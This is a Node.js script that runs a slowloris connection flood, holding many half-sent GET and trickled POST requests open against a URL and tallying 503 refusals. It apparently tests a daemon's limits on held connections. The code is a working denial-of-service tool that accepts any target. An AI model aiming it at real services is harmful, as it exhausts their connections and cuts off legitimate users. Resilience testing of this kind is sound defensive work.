// A slowloris flood from one address, in a process of its own: COUNT connections kept open for
// SECONDS, each reopened when the daemon closes it, as a flooder does. Half send the headers of a
// GET a byte every 2 s and never finish them; half send whole POST headers for an unknown Host
// with `Content-Length: 100000` and then trickle the body a byte every 2 s (the daemon answers
// those at once, before the body). Neither kind ever closes a connection itself.
//   node flood.mjs URL LOCAL_ADDRESS COUNT SECONDS
// Prints {"opened","answered","refused","errors"} as JSON when done.
import { connect } from 'node:net';

const [url, localAddress, countArg, secondsArg] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const end = Date.now() + Number(secondsArg) * 1000;
const stats = { opened: 0, answered: 0, refused: 0, errors: 0 };
const TRICKLE_MS = 2000;

function open(i) {
  if (Date.now() >= end) return;
  stats.opened++;
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  let timer;
  let seen = '';
  socket.on('data', (b) => {
    if (seen.length < 12) {
      seen += b.toString('latin1');
      if (seen.length >= 12) stats[seen.startsWith('HTTP/1.1 503') ? 'refused' : 'answered']++;
    }
  });
  socket.on('error', () => {
    stats.errors++;
  });
  socket.on('close', () => {
    clearInterval(timer);
    // Reopen at once, as a flood does: the daemon decides how many it holds.
    setImmediate(() => open(i));
  });
  socket.once('connect', () => {
    socket.write(
      i % 2 === 0
        ? `GET / HTTP/1.1\r\nHost: ${hostname}\r\n`
        : 'POST /api/v1/boxes HTTP/1.1\r\nHost: not-this-daemon.example\r\nContent-Type: application/json\r\n' +
            'Content-Length: 100000\r\n\r\n{',
    );
    timer = setInterval(() => {
      if (!socket.destroyed) socket.write(i % 2 === 0 ? 'X-A: b\r\n' : 'x');
    }, TRICKLE_MS);
  });
}

for (let i = 0; i < Number(countArg); i++) open(i);
setTimeout(() => {
  process.stdout.write(`${JSON.stringify(stats)}\n`);
  process.exit(0);
}, end - Date.now());
